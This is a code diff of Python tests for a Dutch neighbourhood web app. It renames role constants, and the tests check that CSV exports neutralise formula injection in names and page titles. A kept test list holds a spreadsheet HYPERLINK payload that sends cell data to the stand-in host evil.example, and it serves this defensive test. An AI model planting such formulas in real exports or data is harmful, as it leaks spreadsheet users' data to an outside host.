@@ -5,10 +5,10 @@ import csv
 import io
 
 from buurtpages.models import Registration
+from kernel.roles import BUURT_ADMIN, CONNECTOR
 from tests.base import client_for, inside, logged_in
 from tests.test_rsvp import small_activity
 from tests.test_trainings_portal import municipalities, portal_client
-from workflows.roles import BUURTBEHEERDER, BUURTVERBINDER
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
@@ -37,7 +37,7 @@ def test_organiser_csv_neutralises_formula_names(alpha):
                 email=f"p{number}@example.nl",
                 status=Registration.Status.CONFIRMED,
             )
-    organiser = logged_in(alpha, "org@example.nl", BUURTVERBINDER)
+    organiser = logged_in(alpha, "org@example.nl", CONNECTOR)
     rows = rows_of(organiser.get(f"/admin/activiteiten/{activity.pk}/aanmeldingen/?export=csv"))
     names = sorted(row[1] for row in rows[1:])
     assert names == sorted(["Anna", *(f"'{name}" for name in FORMULAS)])
@@ -62,7 +62,7 @@ def test_wagtail_report_csv_neutralises_a_formula_page_title(alpha):
     with inside(alpha):
         activity.title = FORMULAS[0]
         activity.save_revision().publish()
-    beheerder = logged_in(alpha, "beheer@example.nl", BUURTBEHEERDER)
+    beheerder = logged_in(alpha, "beheer@example.nl", BUURT_ADMIN)
     response = beheerder.get("/admin/reports/site-history/?export=csv")
     body = b"".join(response.streaming_content).decode("utf-8-sig")
     cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
